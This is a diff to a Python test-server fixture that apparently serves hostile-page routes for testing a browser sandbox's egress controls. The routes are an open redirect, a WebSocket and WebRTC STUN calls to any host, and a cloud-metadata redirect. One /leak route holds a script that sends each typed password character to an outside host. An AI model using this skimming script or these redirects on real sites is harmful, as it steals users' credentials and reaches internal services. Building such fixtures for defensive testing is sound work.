@@ -8,6 +8,13 @@ cookie-based login; the protected page redirects to ``/login`` without a valid c
 ``/form`` (inputs that
 report their values), ``/to-metadata`` (a link to
 the cloud metadata address) and ``/redirect-metadata`` (a redirect to it).
+
+Pages a hostile document or page would use (``to`` is a URL on another host): ``/redirect?to=``
+(a 302), ``/image?to=`` (an image whose URL redirects there), ``/socket?to=`` (opens a
+WebSocket there; ``#state`` says ``done`` once it has opened or failed) and ``/leak?to=`` (a
+password field whose script sends what is typed to ``to``; ``#state`` says ``sent``) and
+``/rtc?to=HOST:PORT`` (a WebRTC peer connection asking that STUN server; ``#state`` says
+``done`` after 1.5 s).
 """
 
 from __future__ import annotations
@@ -19,7 +26,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, quote, urlsplit
 
 USER = "alice-portal"
 PASSWORD = "correct horse battery staple"
@@ -175,6 +182,36 @@ class _Handler(BaseHTTPRequestHandler):
             self._send(503, _page("Busy", "<p>try later</p>"), {"Retry-After": "7"})
         elif path == "/form":
             self._send(200, _page("Form", FORM))
+        elif path == "/redirect":
+            self._send(302, headers={"Location": query["to"][0]})
+        elif path == "/image":
+            image = f'<img src="/redirect?to={quote(query["to"][0], safe="")}">'
+            self._send(200, _page("Image", image + '<p id="state">image</p>'))
+        elif path == "/socket":
+            script = (
+                f"<script>const socket = new WebSocket({query['to'][0]!r}); const done = () => "
+                "{ document.querySelector('#state').textContent = 'done'; }; "
+                "socket.onopen = done; socket.onerror = done; socket.onclose = done;</script>"
+            )
+            self._send(200, _page("Socket", '<p id="state">opening</p>' + script))
+        elif path == "/leak":
+            script = (
+                "<script>document.querySelector('#pw').addEventListener('input', (event) => {"
+                f"const to = {query['to'][0]!r} + encodeURIComponent(event.target.value); "
+                "fetch(to, {mode: 'no-cors'}).catch(() => null); new Image().src = to; "
+                "document.querySelector('#state').textContent = 'sent'; });</script>"
+            )
+            body = '<input id="pw" type="password"><p id="state">waiting</p>'
+            self._send(200, _page("Leak", body + script))
+        elif path == "/rtc":
+            script = (
+                f"<script>const peer = new RTCPeerConnection({{iceServers: [{{urls: "
+                f"'stun:{query['to'][0]}'}}]}}); peer.createDataChannel('x'); "
+                "peer.createOffer().then((offer) => peer.setLocalDescription(offer)); "
+                "setTimeout(() => { document.querySelector('#state').textContent = 'done'; }, "
+                "1500);</script>"
+            )
+            self._send(200, _page("RTC", '<p id="state">gathering</p>' + script))
         elif path == "/redirect-metadata":
             self._send(302, headers={"Location": "http://169.254.169.254/latest/meta-data/"})
         else:
